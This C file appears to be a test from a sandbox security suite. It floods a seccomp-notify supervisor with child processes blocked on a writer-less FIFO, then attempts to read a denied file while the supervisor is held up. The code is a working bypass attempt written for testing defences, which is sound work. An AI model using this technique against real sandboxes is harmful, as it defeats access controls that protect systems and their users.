// SPDX-License-Identifier: GPL-2.0-only
/*
 * Claim: a call is judged however many others are held (catalogue D13).
 *
 *	FLOOD children			target			supervisor
 *	openat(a FIFO without a writer)				each holds a thread up
 *					openat(DENIED)		none is left
 *
 * All of it but the last act is permitted. Winning prints DATA and the content
 * of the denied file.
 */
#include "attack.h"

#include <signal.h>

#define FLOOD 16
#define TURNS 64

static pid_t children[FLOOD];

/* Listeners hand calls out in the order in which they were made (seccomp_notify_recv). */
static void hold(const char *fifo)
{
	_Atomic int *coming = shared_memory(sizeof(*coming));

	for (int i = 0; i < FLOOD; i++) {
		children[i] = fork();
		if (children[i] < 0)
			broken("fork: %s", strerror(errno));
		if (!children[i]) {
			atomic_fetch_add(coming, 1);
			raw_openat(way_from, fifo, O_RDONLY);
			_exit(0);
		}
	}
	while (atomic_load(coming) < FLOOD)
		sched_yield();
	for (int i = 0; i < TURNS; i++)
		sched_yield();
}

static void let_go(void)
{
	int status;

	for (int i = 0; i < FLOOD; i++)
		kill(children[i], SIGKILL);
	for (int i = 0; i < FLOOD; i++)
		if (waitpid(children[i], &status, 0) != children[i])
			broken("waitpid: %s", strerror(errno));
}

static void read_while_held(struct run *run, const char *name)
{
	char fifo[PATH_MAX];

	join(fifo, run->dir, "fifo");
	if (mkfifoat(way_from, fifo, 0600))
		broken("mkfifo %s: %s", fifo, strerror(errno));
	hold(fifo);
	run_plain_read(run, name);
	let_go();
	unlinkat(way_from, fifo, 0);
}

int main(int argc, char **argv)
{
	struct run run = run_begin(argc, argv);

	switch (run.mode) {
	case MODE_BENIGN:
		read_while_held(&run, run.allowed);
		break;
	case MODE_DIRECT:
		run_plain_read(&run, run.denied);
		break;
	case MODE_ATTACK:
		read_while_held(&run, run.denied);
		break;
	}
	run_end(&run);
}
